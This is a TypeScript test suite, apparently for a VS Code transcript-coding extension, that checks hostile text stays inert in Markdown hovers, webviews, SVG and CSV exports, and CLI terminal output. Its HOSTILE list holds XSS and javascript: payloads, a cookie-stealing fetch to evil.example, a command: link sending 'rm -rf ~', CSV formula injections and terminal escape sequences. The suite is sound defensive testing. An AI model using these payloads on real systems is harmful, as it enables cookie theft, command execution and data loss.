/**
 * Hostile text is shown, never obeyed (issue 7). Transcript text, factor names, memos and
 * agency names come from files anyone can write; wherever they are rendered they must be
 * inert:
 * - Markdown (hovers, tree tooltips, the findings report): no command: or javascript:
 *   link, no image, no HTML. Checked by rendering with markdown-it (HTML on, linkify on:
 *   more permissive than VS Code's hover renderer, which also has HTML off), since the
 *   output a renderer makes is what matters, not the escaping characters;
 * - HTML (webviews) and SVG (the matrix export): no tag or attribute from the text;
 * - CSV: no cell a spreadsheet takes for a formula;
 * - the terminal: no control character reaches it from the CLI (ANSI escapes, C1 CSI,
 *   carriage returns, bidirectional overrides), and JSON output keeps its meaning.
 * The hover itself runs in a real VS Code in test/vscode/suite/reliability.test.ts.
 */
import { strict as assert } from 'node:assert';
import fc from 'fast-check';
import { createRequire } from 'node:module';
import { escapeHtml, escapeMarkdown, terminalSafe } from '../../src/core/text/escape';
import { TempStudy } from './helpers/temp-study';
import { CODEBOOK } from './reliability-fixtures';

/** Text an attacker would put in a transcript line, a factor or a memo. */
export const HOSTILE = [
  '[Edit](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%20~%5Cn%22%7D)',
  '[x](command:transcriptCoder.removeCode?%5B%22file%3A%2F%2F%2Fa%22%2C%22aaaa1111%22%5D)',
  '[klik](javascript:alert(document.cookie))',
  '<a href="javascript:alert(1)">klik</a>',
  '![](https://tracker.example/pixel.png?who=informant)',
  '<img src=x onerror=alert(1)>',
  '<script>fetch("https://evil.example/"+document.cookie)</script>',
  '<iframe src="vscode://settings"></iframe>',
  '<command:workbench.action.quit>',
  '[ref]: command:workbench.action.quit\n[klik][ref]',
  '`code` **bold** _em_ # heading\n---\n> quote\n1. list',
  '&lt;script&gt; &#x3C;img src=x onerror=alert(1)&#x3E;',
  '\u001b[31mmerah\u001b[0m \u001b]8;;file:///etc/passwd\u0007link\u001b]8;;\u0007',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '=HYPERLINK("https://evil.example/?"&A1,"klik")',
  '+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\u202eevil.exe\u202c',
] as const;

interface MarkdownRenderer {
  render(source: string): string;
  renderInline(source: string): string;
}
// markdown-it is installed with @vscode/vsce (which renders README.md with it); it ships no types.
const load = createRequire(__filename);
const markdownIt = load('markdown-it') as (options: { html: boolean; linkify: boolean }) => MarkdownRenderer;
const markdown = markdownIt({ html: true, linkify: true });

/** What Markdown's own syntax makes; a report uses it, text escaped into a line must not. */
const STRUCTURE = ['h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'em', 'strong', 'blockquote', 'hr', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'code', 'pre'];

/** Links markdown-it made, with their targets; images; and any HTML tag that came from the text. */
function dangers(html: string, allowed: readonly string[] = []): string[] {
  const found: string[] = [];
  for (const match of html.matchAll(/<a href="([^"]*)"/gu)) {
    const href = match[1] ?? '';
    // linkify turns a bare https://… into a link; only schemes that do more than open a web page are dangers.
    if (!/^(?:https?:\/\/|mailto:)/u.test(href)) found.push(`link to ${href}`);
  }
  if (/<img/u.test(html)) found.push('image');
  for (const match of html.matchAll(/<(\/?[a-z][a-z0-9]*)/gu)) {
    const tag = (match[1] ?? '').replace('/', '');
    if (!['p', 'a', 'br', ...allowed].includes(tag)) found.push(`tag <${tag}>`);
  }
  if (/<[a-z][^>]*\s(?:on[a-z]+|src|srcdoc|formaction)=/iu.test(html)) found.push('an attribute from the text');
  return found;
}

const hostileText = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.array(fc.constantFrom(...HOSTILE, '[', ']', '(', ')', '<', '>', '!', '`', '*', '\\', ':', '//', 'command:', 'javascript:', ' ', '\n', 'x', '&', '#', ';'), { maxLength: 20 }).map((parts) => parts.join('')),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
);

describe('security: hostile text is shown, never obeyed', function () {
  this.timeout(60_000);

  describe('Markdown (hovers, tooltips, reports)', () => {
    it('renders every hostile sample as its own text: no command or javascript link, no image, no HTML', () => {
      for (const sample of HOSTILE) {
        const html = markdown.render(escapeMarkdown(sample));
        assert.deepEqual(dangers(html), [], `${JSON.stringify(sample)} rendered as ${html}`);
        assert.doesNotMatch(html, /href="(?:command|javascript|data|file|vscode):|<[^>]*\ssrc=/u);
      }
    });

    it('keeps any text inert, also when escaped pieces are joined as the hover joins them', () => {
      fc.assert(
        fc.property(fc.array(hostileText, { minLength: 1, maxLength: 4 }), (parts) => {
          // hover.ts writes '**', escaped label, '** · ', escaped factor … between its own Markdown.
          const source = parts
            .map((part, index) => (index % 2 === 0 && escapeMarkdown(part).trim() !== '' ? `**${escapeMarkdown(part)}**` : escapeMarkdown(part)))
            .join(' · ');
          // The bold is the hover's own Markdown; nothing else may appear.
          assert.deepEqual(dangers(markdown.render(source), ['strong']), [], source);
          assert.deepEqual(dangers(markdown.renderInline(source), ['strong']), [], source);
        }),
        { numRuns: 2000 },
      );
    });

    it('shows the hostile text itself, not a mangled version of it', () => {
      const sample = '[klik](command:x) <b>';
      const html = markdown.renderInline(escapeMarkdown(sample));
      assert.equal(html.replace(/&lt;/gu, '<').replace(/&gt;/gu, '>').replace(/&amp;/gu, '&'), sample);
    });
  });

  describe('HTML (webviews)', () => {
    it('escapes every character that could open a tag or leave an attribute, and decodes back to the text', () => {
      fc.assert(
        fc.property(hostileText, (text) => {
          const escaped = escapeHtml(text);
          assert.doesNotMatch(escaped, /[<>"']/u);
          const decoded = escaped.replace(/&lt;/gu, '<').replace(/&gt;/gu, '>').replace(/&quot;/gu, '"').replace(/&#39;/gu, "'").replace(/&amp;/gu, '&');
          assert.equal(decoded, text);
        }),
        { numRuns: 2000 },
      );
    });
  });

  describe('the terminal', () => {
    it('terminalSafe leaves no control character and keeps JSON meaning the same', () => {
      fc.assert(
        fc.property(fc.oneof(hostileText, fc.string({ unit: 'binary', maxLength: 40 })), (text) => {
          const safe = terminalSafe(text);
          // eslint-disable-next-line no-control-regex -- what must not reach the terminal
          assert.doesNotMatch(safe, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u);
          const json = JSON.stringify({ factor: text });
          assert.deepEqual(JSON.parse(terminalSafe(json)), { factor: text });
        }),
        { numRuns: 2000 },
      );
      assert.equal(terminalSafe('baris satu\n\tbaris dua ✓'), 'baris satu\n\tbaris dua ✓', 'line breaks, tabs and Unicode text pass');
    });

    it('the CLI prints hostile factor, agency and quote text without obeying it (summary, validate, reanchor)', async () => {
      const factor = 'Anggaran \u001b[2J\u001b[H\u001b]0;dibobol\u0007 \u009b31m merah\r\u202eTIDAK';
      const study = await TempStudy.create({
        'codebook.yaml': CODEBOOK,
        'kaban.txt': 'Kepala: Anggaran kami terbatas.\n',
        'kaban.txt.codes.yaml': [
          'version: 1',
          'transcript: kaban.txt',
          'attributes:',
          `  agency: ${JSON.stringify(`Dinas \u001b[5mKedip\u001b[0m`)}`,
          'codes:',
          '  - id: aaaa1111',
          '    lines: [1, 1]',
          '    code: jones/organization',
          '    polarity: inhibiting',
          `    factor: ${JSON.stringify(factor)}`,
          `    quote: ${JSON.stringify('Teks \u001b[31mlama')}`,
          '    coder: rina',
          '',
        ].join('\n'),
      });
      try {
        for (const args of [['summary'], ['summary', '--json'], ['validate'], ['reanchor'], ['check-integrity']]) {
          const result = await study.cli(...args);
          const output = result.stdout + result.stderr;
          // eslint-disable-next-line no-control-regex -- what must not reach the terminal
          assert.doesNotMatch(output, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/u, `${args.join(' ')} printed a control character: ${JSON.stringify(output)}`);
          // The data keeps the escape character: JSON carries it as \u001b, which parses back to it.
          if (args.join(' ') === 'summary --json') assert.ok(JSON.stringify(JSON.parse(result.stdout)).includes('\\u001b[2J'), 'JSON output holds the factor as it is');
        }
        const summary = await study.cli('summary');
        assert.match(summary.stdout, /\\u001b\[2J/u, 'the escape is shown as text');
      } finally {
        await study.dispose();
      }
    });
  });

  describe('reports (export)', () => {
    it('the Markdown findings, the CSV segments and the SVG matrix hold hostile text inertly', async () => {
      const codes = HOSTILE.map((sample, index) =>
        [
          `  - id: c${index}`,
          `    lines: [${1 + (index % 3)}, ${1 + (index % 3)}]`,
          '    code: jones/organization',
          `    polarity: ${index % 2 === 0 ? 'inhibiting' : 'supporting'}`,
          `    factor: ${JSON.stringify(sample)}`,
          '    quote: ""',
          `    memo: ${JSON.stringify(sample)}`,
          '    coder: rina',
        ].join('\n'),
      );
      const study = await TempStudy.create({
        'codebook.yaml': CODEBOOK,
        'kaban.txt': 'Kepala: satu.\nKepala: dua.\nKepala: tiga.\n',
        'kaban.txt.codes.yaml': ['version: 1', 'transcript: kaban.txt', 'attributes:', `  agency: ${JSON.stringify('<script>alert(1)</script> [x](command:y)')}`, `  informant: ${JSON.stringify('=1+1')}`, 'codes:', ...codes, ''].join('\n'),
      });
      try {
        for (const [format, file] of [['md', 'r.md'], ['csv', 'r.csv'], ['matrix-svg', 'r.svg']] as const) {
          const result = await study.cli('export', '--format', format, '-o', file);
          assert.equal(result.code, 0, result.stderr);
        }
        const md = await study.read('r.md');
        assert.deepEqual(dangers(markdown.render(md), STRUCTURE), [], 'the Markdown report renders no link, image or tag from the study');
        for (const sample of ['<script>', '<img', '<iframe']) assert.ok(!md.includes(sample), `the report holds ${sample} as is`);
        // A link needs an unescaped `[` and `]`: the raw report keeps the words, escaped.
        for (const sample of [/(?<!\\)\]\(command:/u, /(?<!\\)\]\(javascript:/u, /(?<!\\)\[x/u]) assert.doesNotMatch(md, sample);

        const svg = await study.read('r.svg');
        assert.doesNotMatch(svg, /<script|<img|<iframe|<a[\s>]|\son[a-z]+=|javascript:/iu, 'the SVG holds no element or handler from the study');

        const csv = await study.read('r.csv');
        for (const cell of csv.replace(/^\ufeff/u, '').split(/,|\r\n/u)) {
          const value = cell.startsWith('"') ? cell.slice(1) : cell;
          assert.doesNotMatch(value, /^[=+\-@\t\r]/u, `a CSV cell a spreadsheet would run: ${cell}`);
        }
      } finally {
        await study.dispose();
      }
    });
  });
});
